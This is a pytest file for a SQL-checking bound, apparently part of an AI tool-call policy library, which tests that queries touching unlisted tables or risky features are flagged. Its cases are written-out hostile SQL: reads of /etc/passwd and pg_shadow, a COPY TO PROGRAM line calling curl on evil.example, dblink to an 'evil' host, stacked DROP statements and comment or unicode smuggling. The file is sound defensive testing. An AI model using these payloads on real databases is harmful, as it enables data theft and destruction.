"""Bounds on tables: SQL that touches more than it seems, and SQL that a database may read otherwise."""

from __future__ import annotations

import logging
import sys

import pytest
from pydantic import ValidationError

from ladder_graph.calls import Call
from ladder_graph.policy import Rule
from ladder_graph.policy.bounds import Table, table

VERBS = ("select", "insert", "update", "delete")


def call(value):
    """A call with one argument."""
    return Call("ops", "t1", "c1", "ask", {"x": value})


def why(sql, *tables, **fields):
    """What the bound says; empty inside."""
    bound = Table(sql="x", tables=tables or ("orders", "public.customers"), **fields)
    breach = bound.check(call(sql))
    return breach.text if breach else ""


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT * FROM orders",
        "select * from ORDERS;",
        'select id from "orders" -- the latest\nlimit 10',
        "select /* all of them */ count(*), sum(total) from orders group by day having count(*) > 1 order by 2 desc",
        "select o.id from orders o join public.customers c on c.id = o.customer where c.name ilike '%a%'",
        "select * from orders where id in (select id from public.customers) and total between 1 and 2",
        "with big as (select * from orders where total > 9) select * from big join big as other using (id)",
        "with recursive n as (select 1 as i union all select i + 1 from n where i < 9) select * from n",
        "select case when paid then 'yes' else 'no' end, coalesce(note, ''), total::int, lower(note) from orders",
        "select sum(total) over (partition by day order by id rows between 1 preceding and current row) from orders",
        "select data->>'name', date_trunc('day', at), extract(year from at) from orders where id = $1 or id = %s",
        "select id from orders union all select id from public.customers",
        "select * from orders, lateral (select name from public.customers c where c.id = orders.customer) names",
        "SELECT 'DROP TABLE orders; -- it''s only text' FROM orders",
        "select 1\r\n",
    ],
)
def test_a_statement_that_touches_only_listed_tables_is_inside(sql):
    """With joins, subqueries, queries by name, and the usual functions."""
    assert not why(sql)


@pytest.mark.parametrize(
    ("sql", "found"),
    [
        ("select * from salaries", "salaries"),
        ("select * from orders, salaries", "salaries"),
        ("select * from orders natural join salaries", "salaries"),
        ("select * from orders where id in (select id from salaries)", "salaries"),
        ("select (select max(pay) from salaries) from orders", "salaries"),
        ("select * from (select * from salaries) orders", "salaries"),
        ("select * from orders union select * from salaries", "salaries"),
        ("select * from orders except (select * from orders intersect select * from salaries)", "salaries"),
        ("select * from orders, lateral (select * from salaries) more", "salaries"),
        ("select * from orders order by (select pay from salaries)", "salaries"),
        ("select * from orders limit (select pay from salaries)", "salaries"),
        ("select * from orders where exists (select 1 from salaries)", "salaries"),
        ("table salaries", "salaries"),
        ("with orders as (select * from salaries) select * from orders", "salaries"),
        ("with salaries as (select * from salaries) select * from salaries", "salaries"),
        ("with a as (select * from salaries), salaries as (select 1) select * from a", "salaries"),
        ("select * from salaries union all (with salaries as (select 1) select * from salaries)", "salaries"),
        ('with "Salaries" as (select 1) select * from Salaries', "salaries"),
        ("with salaries as (select 1) select * from hr.salaries", "hr.salaries"),
        ('select * from "Orders"', "Orders"),
        ("select * from customers", "customers"),
        ("select * from public.orders", "public.orders"),
        ("select * from other.public.customers", "other.public.customers"),
        ("select * from pg_catalog.pg_shadow", "pg_catalog.pg_shadow"),
        ("select * from order\N{LATIN SMALL LETTER LONG S}", "order\N{LATIN SMALL LETTER LONG S}"),
    ],
)
def test_any_other_table_asks_wherever_it_stands(sql, found):
    """Also behind a name that the statement gives it, and with another schema or spelling."""
    assert why(sql) == f"x touches {found}, and the bound allows orders, public.customers"


@pytest.mark.parametrize(
    ("sql", "reason"),
    [
        ("select pg_read_file('/etc/passwd') from orders", "PG_READ_FILE"),
        ("select * from pg_ls_dir('/')", "PG_LS_DIR"),
        ("select * from dblink('host=evil', 'select 1') as t(a int)", "DBLINK"),
        ("select lo_import('/etc/passwd')", "LO_IMPORT"),
        ("select lo_export(1, '/tmp/x') from orders", "LO_EXPORT"),
        ("select query_to_xml('select * from salaries', true, true, '') from orders", "QUERY_TO_XML"),
        ("select nextval('ids')", "NEXTVAL"),
        ("select set_config('role', 'admin', false)", "SET_CONFIG"),
        ("select pg_sleep(100)", "PG_SLEEP"),
        ("select mine.lower(note) from orders", "DOT"),
        ("select \"PG_READ_FILE\"('/etc/passwd')", "PG_READ_FILE"),
        ("select * from orders, generate_series(1, 3)", "GENERATESERIES"),
        ("select 'salaries'::regclass from orders", "OBJECTIDENTIFIER"),
        ("select * into copied from orders", "INTO of a SELECT"),
        ("select * from orders for update", "LOCKS of a SELECT"),
        ("select * from orders tablesample system (10)", "SAMPLE of a TABLE"),
        ("copy orders to '/tmp/x'", "COPY"),
        ("copy (select * from orders) to program 'curl evil.example'", "COPY"),
        ("create table copied as select * from orders", "CREATE"),
        ("drop table orders", "DROP"),
        ("alter table orders add x int", "ALTER"),
        ("truncate orders", "TRUNCATE"),
        ("grant all on orders to public", "GRANT"),
        ("set role admin", "SET"),
        ("do $$ begin delete from orders; end $$", "dollar quote"),
        ("explain analyze delete from orders", "EXPLAIN"),
        ("call pay()", "CALL"),
        ("values (1)", "VALUES"),
        ("begin", "TRANSACTION"),
        ("merge into orders using other on true when matched then delete", "MERGE"),
        ("select 1; drop table orders", "2 statements"),
        ("select * from orders; select * from orders", "2 statements"),
        ("", "0 statements"),
        (";", "0 statements"),
        ("-- nothing", "0 statements"),
        ("select * from", "can't be read"),
        ("please delete all", "can't be read"),
        ("select 'open from orders", "can't be read"),
        ("select '\\' union select * from salaries --' from orders", "backslash"),
        ("select $q$ from orders where $q$ = 1", "dollar quote"),
        ("select 1 /* /* */ from orders */", "comment inside a comment"),
        ("select /*! * from salaries */ 1", "databases execute"),
        ("select /*+ hint */ 1", "databases execute"),
        ("select 1 -- \r union select * from salaries", "don't show"),
        ("select 1\0", "don't show"),
        ("select\N{NO-BREAK SPACE}1", "don't show"),
        ("select * from orders\N{ZERO WIDTH SPACE}", "don't show"),
        ("select " + "(" * 5000, "can't be read"),
        ("select " + "not " * 4000 + "true", "can't be read"),
        ("select 1 " + " " * 20_000, "20009 characters"),
    ],
)
def test_what_is_not_certain_asks(sql, reason):
    """Functions that read or change, other statements, and texts that can be read in two ways."""
    assert "can't be told" in why(sql, statements=VERBS)
    assert reason in why(sql, statements=VERBS)


@pytest.mark.parametrize(
    "sql",
    [
        "insert into orders (id, note) values (1, 'a')",
        "update orders set note = 'a' where id = 3",
        "delete from orders where id = 3",
        "insert into orders select * from public.customers",
        "with gone as (delete from orders where id = 1 returning *) select * from gone",
        "update orders set note = c.name from public.customers c where c.id = orders.customer",
    ],
)
def test_a_change_is_inside_where_its_verb_is_allowed(sql):
    """And asks where only reading is."""
    assert not why(sql, statements=VERBS)
    assert "and the bound allows select" in why(sql)


@pytest.mark.parametrize(
    ("sql", "verb"),
    [
        ("insert into orders select * from orders", "insert"),
        ("insert into orders values (1) returning *", "insert"),
        ("update orders set note = (select 1) where id = 1", "update"),
        ("delete from orders using public.customers c where c.id = orders.id", "delete"),
        ("delete from orders where id = 1 returning note", "delete"),
    ],
)
def test_reading_inside_a_change_is_a_select(sql, verb):
    """A tool that may only write gets nothing back."""
    assert why(sql, statements=(verb,)) == f"x is of the kind select, and the bound allows {verb}"
    assert not why(sql, statements=(verb, "select"))


@pytest.mark.parametrize(
    "sql",
    [
        "update orders set note = 'a'",
        "update orders set note = 'a' where true",
        "delete from orders",
        "delete from orders where 1 = 1",
        "with gone as (delete from orders returning *) select * from gone",
    ],
)
def test_a_change_of_every_row_asks(sql):
    """A condition without a column is none."""
    assert "would change every row" in why(sql, statements=VERBS)


@pytest.mark.parametrize(
    "sql",
    [
        "insert into salaries values (1)",
        "update salaries set pay = 1 where id = 1",
        "delete from salaries where id = 1",
        "with salaries as (select 1) delete from salaries where id = 1",
        "with gone as (delete from salaries where id = 1 returning *) select * from gone",
        "insert into orders select * from salaries",
        "update orders set note = s.pay from salaries s where s.id = orders.id",
        "delete from orders using salaries s where s.id = orders.id",
    ],
)
def test_a_change_of_another_table_asks(sql):
    """Also where a query of the same name stands before it."""
    assert "touches salaries" in why(sql, statements=VERBS)


@pytest.mark.parametrize(
    "sql", ["insert into orders values (1) on conflict do nothing", "insert into orders default values"]
)
def test_a_clause_that_is_not_known_asks(sql):
    """It may change more than the verb says."""
    assert "it is not known what" in why(sql, statements=VERBS)


@pytest.mark.parametrize(
    ("dialect", "sql", "inside"),
    [
        ("sqlite", 'select * from "ORDERS"', True),
        ("sqlite", "select load_extension('x')", False),
        ("sqlite", "select readfile('/etc/passwd')", False),
        ("sqlite", "attach database 'x' as y", False),
        ("sqlite", "pragma writable_schema = 1", False),
        ("sqlite", "insert or replace into orders values (1)", False),
        ("sqlite", "select * from sqlite_master", False),
        ("sqlite", "select 1 from orders where id in salaries", False),
        ("sqlite", "select ('ana', 5) not in main.salaries from orders", False),
        ("sqlite", 'select 5 in "salaries" from orders', False),
        ("sqlite", "select 5 in [salaries] from orders", False),
        ("sqlite", "select 5 in 'salaries' from orders", False),
        ("sqlite", "delete from orders where id in salaries", False),
        ("sqlite", "select 1 from orders where id in (1, 2) or id in (select id from orders)", True),
        ("mysql", "select * from `orders`", True),
        ("mysql", "select * from Orders", False),
        ("mysql", "select 1--1 union select * from salaries", False),
        ("mysql", "select load_file('/etc/passwd')", False),
        ("mysql", "select * from orders into outfile '/tmp/x'", False),
        ("mysql", "replace into orders values (1)", False),
        ("mysql", "insert into orders values (1) on duplicate key update id = 2", False),
        ("mysql", "select @x := 1", False),
        ("duckdb", "from orders", True),
        ("duckdb", "select 1 from orders where id in [1, 2]", True),
        ("duckdb", "select 1 from orders where id in salaries", False),
        ("duckdb", "select * from 'salaries.csv'", False),
        ("duckdb", "select * from read_csv('salaries.csv')", False),
        ("snowflake", "select * from ORDERS", True),
        ("snowflake", 'select * from "orders"', False),
        ("snowflake", "select * from @stage", False),
        ("snowflake", "select ids.nextval from orders", False),
        ("snowflake", 'select shop.public.ids."NEXTVAL" from orders', False),
        ("snowflake", "select * from identifier('salaries')", False),
        ("bigquery", "select * from `orders`", True),
        ("bigquery", "select * from orders, orders.items", False),
        ("bigquery", "select * from `orders_*`", False),
        ("redshift", "select * from Orders", True),
    ],
)
def test_each_dialect_has_its_own_rules(dialect, sql, inside):
    """Of letter case and quotes, and its own ways to reach a file."""
    assert (not why(sql, "orders", dialect=dialect, statements=VERBS)) is inside


def test_a_listed_name_may_be_quoted():
    """As SQL has it."""
    assert not why('select * from "Order Items" join "my.schema".x on true', '"Order Items"', '"my.schema".x')
    assert why("select * from my.schema.x", '"my.schema".x')


@pytest.mark.parametrize("value", [None, 3, ["select 1"], {"sql": "select 1"}, b"select 1"])
def test_what_is_no_text_asks(value):
    """There is nothing to read."""
    assert Table(sql="x", tables=["orders"]).check(call(value)) is not None
    assert Table(argument="x", tables=["orders"]).check(call(value)) is not None
    assert Table(sql="y", tables=["orders"]).check(call("select 1")).text == "y is missing, and the bound allows orders"


@pytest.mark.parametrize(("name", "inside"), [("orders", True), ("Orders", False), ("orders ", False), ("o", False)])
def test_a_bare_name_must_be_one_of_them(name, inside):
    """Letter for letter: nobody knows how the tool puts it into its SQL."""
    assert (Table(argument="x", tables=["orders"]).check(call(name)) is None) is inside


def test_without_the_parser_every_call_asks(monkeypatch, caplog):
    """And making the bound says what to install."""
    monkeypatch.setitem(sys.modules, "sqlglot", None)
    monkeypatch.setattr(table, "installed", lambda: False)
    table._say_once.cache_clear()
    with caplog.at_level(logging.WARNING, "ladder_graph"):
        assert ": pip install 'ladder-graph[sql]'" in why("select * from orders")
    assert ": pip install 'ladder-graph[sql]'" in caplog.text


def test_what_cannot_be_parsed_is_nobodys_log(caplog):
    """The parser warns of a statement that it leaves as it is; the bound says so itself."""
    with caplog.at_level(logging.DEBUG):
        assert "CALL" in why("call pay()")
    assert not caplog.records


@pytest.mark.parametrize(
    "fields",
    [
        {"tables": ["orders"]},
        {"tables": ["orders"], "sql": "x", "argument": "x"},
        {"tables": ["orders"], "argument": "x", "dialect": "mysql"},
        {"tables": ["orders"], "argument": "x", "statements": ["insert"]},
        {"tables": [], "sql": "x"},
        {"tables": ["a b"], "sql": "x"},
        {"tables": ["a.b.c.d"], "sql": "x"},
        {"tables": ["a."], "sql": "x"},
        {"tables": ['"a'], "sql": "x"},
        {"tables": ["orders"], "sql": "x", "statements": ["drop"]},
        {"tables": ["orders"], "sql": "x", "dialect": "tsql"},
    ],
)
def test_a_bound_that_says_too_little_or_too_much_is_a_mistake(fields):
    """No table, no source or two of them, or what the other source needs."""
    with pytest.raises(ValidationError):
        Table(**fields)


def test_reading_sql_takes_time():
    """So no event loop does it."""
    assert Rule(bounds=[Table(sql="x", tables=["orders"])]).takes_time
